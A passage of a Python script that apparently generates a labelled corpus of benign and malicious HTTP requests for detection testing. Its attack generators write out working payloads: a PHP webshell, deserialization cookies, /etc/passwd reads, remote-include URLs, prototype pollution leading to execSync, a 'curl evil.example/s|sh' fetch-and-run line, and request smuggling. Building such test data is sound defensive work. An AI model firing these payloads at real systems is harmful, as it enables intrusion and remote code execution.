    for j, (nm, m, u, b, extra) in enumerate(more, len(l4) + 1):
        hs = [["Host", "api.adplatform.example"], ["User-Agent", r.choice(SERVER_UAS)], ["Accept", "*/*"]] + extra
        if b is not None and not any(h[0] == "Content-Type" for h in hs):
            hs.append(["Content-Type", "application/json"])
        out.append(mk("java", nm, j, m, u, hs, b))
    return out


def a_php(r):
    out = []
    items = [("cookie-unserialize", "GET", "/account", None, [["Cookie", "prefs=" + q('O:21:"Monolog\\Handler\\BufferHandler":1:{s:10:"\x00*\x00handler";O:29:"Monolog\\Handler\\SyslogUdpHandler":0:{}}')]]),
             ("cookie-unserialize-b64", "GET", "/dashboard", None, [["Cookie", "cart=" + base64.b64encode(b'a:1:{i:0;O:8:"Exploit\\X":1:{s:4:"cmd";s:2:"id";}}').decode()]]),
             ("php-filter", "GET", "/v1/media/get?" + qs({"template": "php://filter/convert.base64-encode/resource=../config.php"}), None, []),
             ("phar", "POST", "/v1/creatives/import", json.dumps({"src": "phar:///var/www/uploads/banner.jpg/test.txt"}), [["Content-Type", "application/json"]]),
             ("php-upload", "POST", "/v1/creatives", json.dumps({"name": "HTML5", "markup": "<?php system($_GET['c']); ?><div>ad</div>"}), [["Content-Type", "application/json"]]),
             ("php-input", "POST", "/index.php?page=php://input", "<?php echo shell_exec('id'); ?>", [["Content-Type", "application/x-www-form-urlencoded"]]),
             ("data-wrapper", "GET", "/v1/media/get?" + qs({"file": "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="}), None, []),
             ("assert-inject", "GET", "/api/reports?" + qs({"sort": "name'.system('id').'"}), None, []),
             ("preg-e", "POST", "/v1/macros/render", qs({"pattern": "/x/e", "replace": "passthru('cat /etc/passwd')", "subject": "x"}), [["Content-Type", "application/x-www-form-urlencoded"]]),
             ("call-user-func", "GET", "/wp-admin/admin-ajax.php?" + qs({"action": "adrotate", "func": "call_user_func", "arg": "phpinfo"}), None, []),
             ("email-template-php", "POST", "/3.0/templates", json.dumps({"html": "<p>Hi <?= `whoami` ?></p>"}), [["Content-Type", "application/json"]])]
    for i, (nm, m, u, b, extra) in enumerate(items, 1):
        hs = [["Host", "www.publisher-cms.example"], ["User-Agent", UAS[0]], ["Accept", "*/*"]] + extra
        out.append(mk("php", nm, i, m, u, hs, b))
    return out


def a_crlf(r):
    out = []
    pays = ["https://brand.example/%0d%0aSet-Cookie:%20session=attacker", "%0D%0ALocation:%20https://evil.example", "/x%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK",
            "https://brand.example/%E5%98%8A%E5%98%8DSet-Cookie:%20a=b", "%0aX-Injected:%201", "https://b.example/%0d%0a%0d%0a<script>alert(1)</script>",
            "%0d%0aAccess-Control-Allow-Origin:%20*", "utm%0d%0aRefresh:%200;url=https://evil.example"]
    for i, p in enumerate(pays, 1):
        k = i % 3
        if k == 0:
            uri = "/clk?cid=1&r=" + p
        elif k == 1:
            uri = "/r?url=" + p + "&utm_source=email"
        else:
            uri = "/unsubscribe?e=YUBleGFtcGxlLmNvbQ&next=" + p
        out.append(mk("crlf", "redirect-param", i, "GET", uri, browser_h(r, "clk.adserve.example")))
    out.append(mk("crlf", "postback-json", len(pays) + 1, "POST", "/api/v1/partners/postbacks", api_h(r, "api.mmp-track.example"), json.dumps({"postback_url": "https://p.example/cb?x=1\r\nX-Forwarded-Host: evil.example\r\n"})))
    out.append(mk("crlf", "email-header", len(pays) + 2, "POST", "/v3/mail/send", api_h(r, "api.mailer-pro.example", "application/x-www-form-urlencoded"), qs({"to": "a@example.com", "subject": "Hi\r\nBcc: victims@example.org\r\nX-Mailer: x", "body": "hello"})))
    return out


def a_generic(r):
    out = []
    items = [("POST", "/v1/batch", json.dumps({"batch": [{"type": "track", "event": "Page", "properties": {"__proto__": {"isAdmin": True}}}]}), "proto-cdp"),
             ("POST", "/v1/batch", json.dumps({"batch": [{"type": "identify", "userId": "u", "traits": {"constructor": {"prototype": {"polluted": "yes", "shell": "/bin/sh"}}}}]}), "constructor-proto"),
             ("GET", "/v1/config?__proto__[isAdmin]=true&__proto__[role]=admin", None, "proto-query"),
             ("GET", "/pbjs/config?" + qs({"constructor[prototype][outputFunctionName]": "x;process.mainModule.require('child_process').execSync('id');x"}), None, "proto-ejs"),
             ("POST", "/v2/projects/1/experiments", json.dumps({"key": "x", "variations": [], "__proto__": {"toString": "pwned", "polluted": 1}}), "proto-ab"),
             ("PATCH", "/v1/profile", json.dumps({"settings": {"__proto__": {"sourceURL": "\u2028\u2029\nglobal.process.mainModule.require('child_process').execSync('id')"}}}), "proto-sourceurl"),
             ("POST", "/v1/events", json.dumps({"type": "track", "properties": {"code": "require('child_process').exec('curl evil.example/s|sh')"}}), "node-require"),
             ("POST", "/v1/macros/render", json.dumps({"expr": "global.process.mainModule.constructor._load('child_process').execSync('id')"}), "node-eval"),
             ("GET", "/v1/media/get?" + qs({"x": "<!--#exec cmd=\"/bin/cat /etc/passwd\" -->"}), None, "ssi"),
             ("POST", "/v1/reports/export", qs({"format": "csv", "title": "=cmd|' /C calc'!A0"}), "csv-formula")]
    for i, (m, u, b, nm) in enumerate(items, 1):
        ct = None if b is None else ("application/json" if b.startswith("{") else "application/x-www-form-urlencoded")
        out.append(mk("generic", nm, i, m, u, api_h(r, "api.cdp.example", ct), b))
    return out


def a_rfi(r):
    out = []
    pays = [("template", "http://203.0.113.66/shell.txt?"), ("include", "https://pastebin.example/raw/abc123"), ("page", "ftp://evil.example/a.php"),
            ("lang", "http://evil.example/lang/en.php%00"), ("skin", "\\\\203.0.113.9\\share\\s.php"), ("tpl", "https://raw.githubusercontent.example/x/y/main/c99.php?")]
    for i, (k, v) in enumerate(pays, 1):
        out.append(mk("rfi", "include-param", i, "GET", f"/newsletter/view.php?{k}=" + (v if "%" in v else q(v)), browser_h(r, "email.mailer-pro.example")))
    return out


def a_ldapi(r):
    out = []
    pays = ["*)(uid=*))(|(uid=*", "admin)(&(password=*))", "*)(objectClass=*", "x)(|(memberOf=cn=admins,ou=groups,dc=corp,dc=example))", "*))%00"]
    for i, p in enumerate(pays, 1):
        out.append(mk("ldapi", "advertiser-directory", i, "GET", "/v1/directory/users?" + ("cn=" + p if "%" in p else qs({"cn": p})), api_h(r, "api.adplatform.example", None)))
    return out


def a_protocol(r):
    out = []
    body = "0\r\n\r\nGET /admin/exports HTTP/1.1\r\nHost: localhost\r\n\r\n"
    out.append(mk("protocol", "smuggle-cl-te", 1, "POST", "/openrtb2/auction", [["Host", "pbs.adexchange.example"], ["User-Agent", "x"], ["Content-Type", "application/json"], ["Content-Length", str(len(body))], ["Transfer-Encoding", "chunked"]], body))
    out.append(mk("protocol", "smuggle-te-obf", 2, "POST", "/v1/batch", [["Host", "api.cdp.example"], ["Transfer-Encoding", "chunked"], ["Transfer-encoding", " identity"], ["Content-Type", "text/plain"]], "5\r\nhello\r\n0\r\n\r\n"))
    out.append(mk("protocol", "dup-cl", 3, "POST", "/win", [["Host", "win.dsp-one.example"], ["Content-Length", "4"], ["Content-Length", "40"], ["Content-Type", "application/x-www-form-urlencoded"]], "a=1&"))
    out.append(mk("protocol", "header-crlf", 4, "GET", "/imp?crid=1", [["Host", "trk.adserve.example"], ["X-Forwarded-Host", "evil.example\r\nX-Admin: 1"]]))
    out.append(mk("protocol", "null-in-uri", 5, "GET", "/vod/abc/master.m3u8%00.jpg", [["Host", "vod.streamcdn.example"], ["User-Agent", UAS[0]]]))
    out.append(mk("protocol", "te-gzip-chunked", 6, "POST", "/v1/t", [["Host", "api.cdp.example"], ["Transfer-Encoding", "gzip, chunked"], ["Content-Length", "3"], ["Content-Type", "text/plain"]], "abc"))
    out.append(mk("protocol", "get-with-smuggled-body", 7, "GET", "/cache?uuid=1", [["Host", "prebid-cache.adexchange.example"], ["Content-Length", "44"]], "GET /internal/flush HTTP/1.1\r\nHost: local\r\n\r\n"))
    out.append(mk("protocol", "space-before-colon", 8, "POST", "/v1/batch", [["Host", "api.cdp.example"], ["Content-Length ", "5"], ["Transfer-Encoding", "chunked"]], "0\r\n\r\n"))
    return out


BENIGN_GENS = [(g_openrtb, 30), (g_openrtb3, 8), (g_bidresp, 22), (g_prebid, 25), (g_macros, 30), (g_clicks, 30), (g_landing, 22),
               (g_postbacks, 25), (g_consent, 15), (g_email, 35), (g_cdp, 35), (g_ab, 12), (g_video, 42), (g_podcast, 12),
               (g_social, 24), (g_reports, 24), (g_campaigns, 12), (g_transcode, 12)]
ATTACK_GENS = [a_xss, a_ssrf, a_ssti, a_sqli, a_nosqli, a_xxe, a_rce, a_lfi, a_java, a_php, a_crlf, a_generic, a_rfi, a_ldapi, a_protocol]


def benign():
    out = []
    for g, n in BENIGN_GENS:
        out += g(random.Random(g.__name__), n)
    out += g_dev(random.Random("g_dev"), 40)
    return out


def attacks():
    out = []
    for g in ATTACK_GENS:
        out += g(random.Random(g.__name__))
    return out


def main():
    cmd = sys.argv[1] if len(sys.argv) > 1 else "stats"
    if cmd in ("attacks", "benign"):
        rows = attacks() if cmd == "attacks" else benign()
        ids = set()
        for d in rows:
            assert d["id"] not in ids, d["id"]
            ids.add(d["id"])
            sys.stdout.write(json.dumps(d, ensure_ascii=False) + "\n")
    elif cmd == "stats":
        from collections import Counter
        for name, rows in (("attacks", attacks()), ("benign", benign())):
            c = Counter(d["category"] for d in rows)
            sys.stderr.write(f"{name}: {len(rows)}  " + ", ".join(f"{k} {v}" for k, v in c.most_common()) + "\n")
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
